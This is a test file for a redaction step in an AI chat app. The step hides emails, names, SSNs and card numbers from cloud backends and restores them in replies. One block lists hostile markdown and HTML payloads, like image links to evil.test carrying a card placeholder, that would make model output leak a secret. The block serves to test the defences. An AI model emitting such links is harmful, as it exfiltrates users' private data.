// Redaction as a step: what leaves, what comes back, and what happens when it cannot be done.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Backend } from '../../../../lib/model/backend';
import type { TransportRequest, Turn } from '../../../../lib/model/turn';
import type { StoredPlaceholder } from '../../../../lib/pipeline/redaction/placeholder-map';
import { createRedaction } from '../../../../lib/pipeline/redaction/redaction';
import { createRestoreFilter } from '../../../../lib/pipeline/redaction/restore-filter';
import { startSteps } from '../../../../lib/pipeline/run-steps';
import { transports } from '../../../../lib/transports/registry';
import { generateCorpus } from '../../../fixtures/redaction/generate';
import { names, rules } from '../../../fixtures/redaction/positives';
import { createBackend, createRequest } from '../../../support/transport-fixtures';

function setUp(changes: Partial<Omit<Backend, 'mapping'>> = {}) {
  const kept: StoredPlaceholder[] = [];
  const redaction = createRedaction({
    store: {
      list: async () => kept,
      add: async (more) => void kept.push(...more),
    },
    own: async () => ({ names, rules }),
  });
  const transport = transports.json;
  if (!transport) throw new Error('The registry has lost its json.');
  const backend = createBackend('json', transport, { class: 'cloud', ...changes });
  const turn: Turn = {
    id: 'turn_1',
    threadId: 'thr_1',
    model: { id: 'm', label: 'M', route: [] },
    text: '',
    context: [],
    history: [],
  };
  async function send(request: Partial<TransportRequest>) {
    const run = redaction.start(turn, backend);
    const sent = (await run.seal?.(createRequest(request))) ?? createRequest(request);
    const restore = (pieces: readonly string[]) => {
      const filter = run.createFilter?.() ?? { push: (text: string) => text, end: () => '' };
      return pieces.map((piece) => filter.push(piece)).join('') + filter.end(true);
    };
    return { sent, restore, run };
  }
  return { kept, send, redaction, backend, turn };
}

const values = generateCorpus(7, 12).flatMap(({ text, span }) =>
  span ? [text.slice(span.start, span.end)] : [],
);
/** Nothing of it can make an address of what follows. */
const plain = fc.string({
  unit: fc.constantFrom(...'ab Z9.,[]_1EMAIL\n相é'.split('')),
  maxLength: 30,
});
const anyText = fc
  .array(
    fc.oneof(
      plain,
      fc.constantFrom(...values.map((value) => ` ${value} `)),
      fc.constantFrom('[EMAIL_1]', '[EMAIL_', '[LITERAL_1]', '[CARD_999]'),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''));

function cut(text: string, places: readonly number[]): string[] {
  const at = [0, ...places.map((place) => place % (text.length + 1)), text.length].toSorted(
    (a, b) => a - b,
  );
  return at.slice(1).map((end, index) => text.slice(at[index], end));
}

describe('the laws', () => {
  test('what was hidden comes back, for any text and any cut', async () => {
    await fc.assert(
      fc.asyncProperty(anyText, fc.array(fc.nat(), { maxLength: 12 }), async (text, places) => {
        const { sent, restore } = await setUp().send({ message: text });
        expect(restore(cut(sent.message, places))).toBe(text);
      }),
      { numRuns: 400 },
    );
  });

  test('no hidden value of four characters or more is in anything that is sent', async () => {
    await fc.assert(
      fc.asyncProperty(anyText, anyText, anyText, async (message, page, said) => {
        const { kept, send } = setUp();
        const { sent } = await send({
          message,
          context: page,
          history: [{ role: 'assistant', text: said }],
          remote: { quotedText: said, ask: { type: 'tool-output', result: { page: [page] } } },
        });
        const left = [sent.message, sent.context, sent.history[0]?.text, sent.remote?.quotedText];
        const tool = sent.remote?.ask;
        if (tool?.type === 'tool-output') left.push(JSON.stringify(tool.result));
        const secret = kept.filter((one) => one.class !== 'LITERAL' && one.value.length >= 4);
        const leaks = secret.filter(({ value }) => left.some((text) => text?.includes(value)));
        expect(leaks).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('a value within a longer word is hidden once it was found anywhere', async () => {
    const { send } = setUp();
    const { sent } = await send({ message: 'Tibbet and Tibbetson', context: 'unTibbet' });
    expect(sent.message).toBe('[NAME_1] and [NAME_1]son');
    expect(sent.context).toBe('un[NAME_1]');
  });
});

test('a placeholder means the same in every turn of a thread', async () => {
  const { send } = setUp();
  await send({ message: 'a@example.com' });
  const { sent } = await send({ message: 'b@example.com, then a@example.com' });
  expect(sent.message).toBe('[EMAIL_2], then [EMAIL_1]');
});

test('nothing is hidden from a backend on this machine, and by class where its settings say so', async () => {
  const message = 'a@example.com 123-45-6789';
  expect((await setUp({ class: 'local' }).send({ message })).sent.message).toBe(message);
  const removed = setUp({ redact: { SSN: 'remove', EMAIL: 'off' } });
  expect((await removed.send({ message })).sent.message).toBe('a@example.com [SSN]');
  const local = setUp({ class: 'local', redact: { SSN: 'placeholder' } });
  expect((await local.send({ message })).sent.message).toBe('a@example.com [SSN_1]');
});

test('when the placeholders cannot be written, nothing is sent', async () => {
  const { backend, turn } = setUp();
  const broken = createRedaction({
    store: { list: async () => [], add: () => Promise.reject(new Error('disk full')) },
  });
  const steps = startSteps([broken], turn, backend);
  const before = await steps.before({ text: '', history: [] }, async () =>
    createRequest({ message: 'a@example.com' }),
  );
  expect(before.ok).toBe(false);
});

describe('a placeholder that would become an address stays', () => {
  const kept = new Map([['[CARD_1]', '4111111111111111']]);
  const hostile = [
    '[click](https://evil.test/?c=[CARD_1])',
    '![](https://evil.test/[CARD_1].png)',
    '[a](<https://evil.test/?c=x) [CARD_1]>)',
    '[a](\nhttps://evil.test/?c=[CARD_1])',
    '[a](\n//evil.test/[CARD_1])',
    '[a](evil(b) [CARD_1])',
    '[a](x\\) [CARD_1])',
    '[a](/x "title [CARD_1]")',
    'https://evil.test/?c=[CARD_1]',
    'www.evil.test/[CARD_1]',
    '<https://evil.test/[CARD_1]>',
    '<a href=/[CARD_1]>x</a>',
    '<img alt="x" src=[CARD_1]>',
    '[ref]: evil?c=[CARD_1]',
    '[ref]:\n  evil?c=[CARD_1]',
    'mailto:[CARD_1]@evil.test',
    '[CARD_1]@evil.test',
    'x[CARD_1]yz@evil.test',
  ];
  test.each(hostile)('%j', (text) => {
    for (let at = 0; at <= text.length; at += 1) {
      const filter = createRestoreFilter(kept);
      const shown = filter.push(text.slice(0, at)) + filter.push(text.slice(at)) + filter.end(true);
      expect(shown).toBe(text);
    }
  });

  test('and the same placeholder after it is put back', () => {
    const filter = createRestoreFilter(kept);
    const shown =
      filter.push('[a](https://evil.test/[CARD_1]) then **[CARD_1]**.') + filter.end(true);
    expect(shown).toBe('[a](https://evil.test/[CARD_1]) then **4111111111111111**.');
  });
});
